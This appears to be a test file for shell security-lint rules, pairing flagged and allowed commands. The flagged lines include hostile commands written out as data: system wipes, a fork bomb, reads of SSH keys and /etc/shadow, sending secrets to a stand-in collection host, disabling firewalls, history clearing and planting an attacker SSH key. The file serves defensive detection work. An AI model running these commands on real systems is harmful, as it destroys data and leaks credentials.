#!/bin/bash
# rm -rf / in a comment is none

# ruleid: shell-destroys-system
rm -rf /
# ruleid: shell-destroys-system
sudo rm -rf --no-preserve-root /
# ruleid: shell-destroys-system
rm -rf ~/*
# ruleid: shell-destroys-system
dd if=/dev/zero of=/dev/sda bs=1M
# ruleid: shell-destroys-system
mkfs.ext4 -F /dev/nvme0n1
# ruleid: shell-destroys-system
:(){ :|:& };:
# ok: shell-destroys-system
rm -rf /var/cache/app/build
# ok: shell-destroys-system, shell-delete-below-variable
rm -rf ./build
# ok: shell-destroys-system
dd if=image.iso of=/tmp/image.raw

# ruleid: shell-delete-below-variable
rm -rf "$BUILD_DIR"/*
# ok: shell-delete-below-variable
rm -rf "${BUILD_DIR:?}"/*

# ruleid: shell-destroys-resources
terraform destroy -auto-approve
# ok: shell-destroys-resources
terraform plan -destroy

# ruleid: shell-reads-credentials
cat ~/.ssh/id_rsa
# ruleid: shell-reads-credentials
cat ~/.aws/credentials
# ruleid: shell-reads-credentials
sudo cat /etc/shadow
# ok: shell-reads-credentials
cat ~/.ssh/id_ed25519.pub
# ok: shell-reads-credentials
cat /etc/hosts

# ruleid: shell-sends-data-out
env | curl -X POST --data-binary @- https://collect.example.com
# ruleid: shell-sends-data-out, shell-reads-credentials
curl -F "f=@$HOME/.ssh/id_rsa" https://collect.example.com
# ok: shell-sends-data-out
curl -F "f=@report.pdf" https://api.example.com

# ruleid: shell-security-switched-off
setenforce 0
# ruleid: shell-security-switched-off
sudo systemctl stop firewalld
# ruleid: shell-security-switched-off
ufw disable
# ok: shell-security-switched-off
ufw allow 443/tcp
# ok: shell-security-switched-off
systemctl stop nginx

# ruleid: shell-covers-tracks
history -c
# ruleid: shell-covers-tracks
unset HISTFILE
# ok: shell-covers-tracks
history | tail -20

# ruleid: shell-tls-not-verified
curl -k https://api.example.com/items
# ruleid: shell-tls-not-verified
git -c http.sslVerify=false clone https://example.com/x.git
# ruleid: shell-tls-not-verified
ssh -o StrictHostKeyChecking=no user@example.com
# ok: shell-tls-not-verified
curl --cacert ca.pem https://api.example.com/items

# ruleid: shell-packages-not-verified
apt-get install -y --allow-unauthenticated tool
# ok: shell-packages-not-verified
apt-get install -y tool

# ruleid: shell-loose-permissions
chmod -R 777 /srv/app
# ruleid: shell-loose-permissions
chmod 666 config.ini
# ok: shell-loose-permissions
chmod 750 /srv/app
# ok: shell-loose-permissions
chmod +x run.sh

# ruleid: shell-setuid-or-sudo-for-all
chmod u+s /bin/bash
# ruleid: shell-setuid-or-sudo-for-all
echo "deploy ALL=(ALL) NOPASSWD: ALL" | tee /etc/sudoers.d/deploy
# ok: shell-setuid-or-sudo-for-all
echo "deploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart app" | tee /etc/sudoers.d/deploy

# ruleid: shell-container-owns-host
docker run --rm --privileged -it image
# ruleid: shell-container-owns-host
docker run -v /var/run/docker.sock:/var/run/docker.sock image
# ok: shell-container-owns-host
docker run --rm -v "$PWD":/src image

# ruleid: shell-persistence
echo "ssh-ed25519 AAAA attacker" >> ~/.ssh/authorized_keys
# ok: shell-persistence
ssh-copy-id user@example.com

# ruleid: shell-miner
xmrig -o pool.example.com:3333 -u wallet
# ok: shell-miner
nproc

# ruleid: shell-temp-file-by-pid
OUT=/tmp/report.$$
# ok: shell-temp-file-by-pid
OUT=$(mktemp)

# ruleid: shell-hardcoded-secret
export DB_PASSWORD="Tr0ub4dor-and-3"
# ruleid: shell-hardcoded-secret
curl -u admin:hunter22 https://api.example.com
# ok: shell-hardcoded-secret
export DB_PASSWORD="$(pass show db)"
# ok: shell-hardcoded-secret
export DB_PASSWORD="change-me-now"

# ruleid: shell-plain-http-download
wget http://downloads.example.com/tool.tar.gz
# ok: shell-plain-http-download
wget https://downloads.example.com/tool.tar.gz

# ruleid: shell-weak-crypto
openssl enc -des3 -in a -out b
# ok: shell-weak-crypto
openssl enc -aes-256-cbc -pbkdf2 -in a -out b

# ruleid: shell-predictable-secret
TOKEN="$RANDOM$RANDOM"
# ok: shell-predictable-secret
TOKEN="$(openssl rand -hex 32)"
